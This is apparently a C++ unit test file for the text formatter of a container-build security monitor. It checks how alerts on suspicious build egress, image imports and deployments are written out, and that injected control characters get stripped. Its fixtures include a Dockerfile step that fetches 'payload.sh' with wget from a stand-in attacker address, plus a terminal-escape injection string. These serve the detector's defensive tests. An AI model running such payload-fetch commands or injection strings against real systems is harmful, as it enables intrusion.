#include <algorithm>
#include <catch2/catch_test_macros.hpp>
#include <string>

#include "harness/full_alert.h"
#include "sink/text.h"

using namespace kilnwatch;

TEST_CASE("No text of others breaks out of its line") {
  const auto plain = sink::as_text(test::full_alert());
  const auto hostile =
      sink::as_text(test::full_alert("\n    next       nothing\r\x1b[1A\xe2\x80\xae\xc2\x9b"));
  CHECK(std::count(hostile.begin(), hostile.end(), '\n') ==
        std::count(plain.begin(), plain.end(), '\n'));
  for (const char* bad : {"\r", "\x1b", "\xe2\x80\xae", "\xc2\x9b"}) {
    CHECK(hostile.find(bad) == std::string::npos);
  }
}

TEST_CASE("An alert reads as what happened, who, where to, what next") {
  v1::Alert alert;
  alert.set_id("0123456789abcdef0123456789abcdef");
  alert.mutable_time()->set_seconds(1'700'000'000);
  alert.mutable_time()->set_nanos(123'000'000);
  alert.set_rule("build-egress");
  alert.set_severity(v1::SEVERITY_HIGH);
  alert.set_summary("build step 2 connected to 198.51.100.66 port 8080");
  auto* reason = alert.add_reasons();
  reason->set_code("raw-address");
  reason->set_text("the destination has no name that was seen");
  alert.mutable_host()->set_name("ci-7");
  auto* build = alert.mutable_build();
  build->set_id("fedcba9876543210fedcba9876543210");
  build->set_status(v1::BUILD_STATUS_RUNNING);
  build->mutable_client()->set_transport(v1::TRANSPORT_TCP);
  build->mutable_client()->mutable_address()->set_ip("203.0.113.9");
  build->mutable_client()->mutable_address()->set_port(50123);
  build->mutable_request()->set_method("POST");
  build->mutable_request()->set_path("/v1.41/build");
  build->mutable_request()->set_remote_context("http://198.51.100.66/Dockerfile");
  build->mutable_request()->add_tags("evil:1");
  build->mutable_request()->add_base_images("alpine:3");
  auto* step = alert.mutable_step();
  step->set_number(2);
  step->set_total(3);
  step->set_instruction("RUN wget http://198.51.100.66:8080/payload.sh");
  step->set_container_id("00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff");
  step->set_attribution(v1::ATTRIBUTION_EXACT);
  auto* connection = alert.mutable_connection();
  connection->set_protocol("tcp");
  connection->mutable_destination()->set_ip("198.51.100.66");
  connection->mutable_destination()->set_port(8080);
  connection->set_outcome(v1::OUTCOME_ESTABLISHED);
  connection->mutable_http()->set_method("GET");
  connection->mutable_http()->set_path("/payload.sh");
  connection->mutable_process()->set_pid(4711);
  connection->mutable_process()->set_exe("/bin/busybox");
  connection->mutable_process()->add_args("wget");
  connection->mutable_process()->add_args("http://198.51.100.66:8080/payload.sh");
  connection->mutable_process()->add_ancestors("/bin/sh");
  connection->mutable_process()->add_ancestors("/usr/bin/containerd-shim");
  CHECK(sink::as_text(alert) ==
        "HIGH     build-egress  build step 2 connected to 198.51.100.66 port 8080  "
        "2023-11-14 22:13:20.123Z  ci-7\n"
        "    why        raw-address: the destination has no name that was seen\n"
        "    client     203.0.113.9:50123 over tcp\n"
        "    build      fedcba987654 running, base alpine:3, tag evil:1, context "
        "http://198.51.100.66/Dockerfile, POST /v1.41/build\n"
        "    step       2/3 RUN wget http://198.51.100.66:8080/payload.sh, exact, container "
        "001122334455\n"
        "    to         198.51.100.66:8080 tcp established, GET /payload.sh\n"
        "    by         wget http://198.51.100.66:8080/payload.sh, /bin/busybox pid 4711, below "
        "/bin/sh < /usr/bin/containerd-shim\n"
        "    next       look at what the step fetched: docker history and diff; block "
        "198.51.100.66:8080 if nobody vouches for it\n"
        "    alert      0123456789abcdef0123456789abcdef\n");
}

TEST_CASE("A program that is not known is told as that") {
  v1::Alert alert;
  alert.mutable_build()->mutable_client()->set_pid(4711);
  alert.mutable_build()->mutable_client()->set_uid(0);
  alert.mutable_connection()->mutable_process()->set_pid(4712);
  const auto text = sink::as_text(alert);
  CHECK(text.find("    client     unknown program pid 4711, uid 0\n") != std::string::npos);
  CHECK(text.find("    by         unknown program pid 4712\n") != std::string::npos);
}

TEST_CASE("An import reads as who brought which image, and how") {
  v1::Alert alert;
  alert.set_rule("image-import");
  alert.set_severity(v1::SEVERITY_MEDIUM);
  auto* import = alert.mutable_import();
  import->set_id("fedcba9876543210fedcba9876543210");
  import->set_road(v1::IMPORT_ROAD_COMMIT);
  import->mutable_client()->set_exe("/usr/bin/docker");
  import->mutable_client()->set_pid(4711);
  import->mutable_request()->set_method("POST");
  import->mutable_request()->set_path("/v1.41/commit");
  import->set_container_id("web");
  alert.mutable_image()->set_id("sha256:" + std::string(64, 'e'));
  alert.mutable_image()->add_tags("evil:1");
  const auto text = sink::as_text(alert);
  for (const char* part :
       {"    client     /usr/bin/docker, /usr/bin/docker pid 4711\n",
        "    import     fedcba987654 commit, container web, POST /v1.41/commit\n",
        "    image      eeeeeeeeeeee, evil:1\n"}) {
    CAPTURE(part, text);
    CHECK(text.find(part) != std::string::npos);
  }
}

TEST_CASE("What reasons weigh, and the chain that a deployment closes") {
  v1::Alert alert;
  alert.set_rule("image-deploy");
  auto* reason = alert.add_reasons();
  reason->set_code("chain-closed");
  reason->set_text("x");
  reason->set_weight(50);
  auto* link = alert.mutable_chain()->add_links();
  link->set_severity(v1::SEVERITY_HIGH);
  link->set_alert_id("00ff");
  link->mutable_step()->set_number(2);
  link->mutable_connection()->mutable_destination()->set_ip("198.51.100.66");
  link->mutable_connection()->mutable_destination()->set_port(8080);
  link->mutable_connection()->set_protocol("tcp");
  link->mutable_connection()->set_outcome(v1::OUTCOME_ESTABLISHED);
  link->mutable_connection()->mutable_process()->set_exe("/usr/bin/wget");
  alert.mutable_chain()->set_left_out(3);
  auto* before = alert.mutable_chain()->add_reasons();
  before->set_code("known-name");
  before->set_text("y");
  before->set_weight(-55);
  const auto text = sink::as_text(alert);
  for (const char* part :
       {"    why        +50 chain-closed: x\n",
        "    chain      HIGH 198.51.100.66:8080 tcp established, by /usr/bin/wget, step 2, alert "
        "00ff\n",
        "    chain      and 3 more connections\n", "    before     -55 known-name: y\n"}) {
    CAPTURE(part, text);
    CHECK(text.find(part) != std::string::npos);
  }
}

TEST_CASE("A container that has not started is told as created") {
  v1::Alert alert;
  alert.set_rule("container-powers");
  alert.mutable_deployment()->set_container_id(std::string(64, 'c'));
  alert.mutable_deployment()->mutable_client()->set_uid(0);
  const auto has = [&](const char* part) {
    return sink::as_text(alert).find(part) != std::string::npos;
  };
  // As alerts were before they said so.
  CHECK(has("    started    cccccccccccc\n    started by uid 0\n"));
  alert.mutable_deployment()->set_started(true);
  CHECK(has("    started    cccccccccccc\n"));
  alert.mutable_deployment()->set_started(false);
  CHECK(has("    created    cccccccccccc\n    created by uid 0\n"));
  CHECK(has("docker inspect cccccccccccc"));
  alert.mutable_deployment()->mutable_client()->set_exe("/usr/bin/podman");
  CHECK(has("podman inspect cccccccccccc"));
}

TEST_CASE("An empty alert is a line, not a fault") {
  CHECK_FALSE(sink::as_text(v1::Alert()).empty());
}
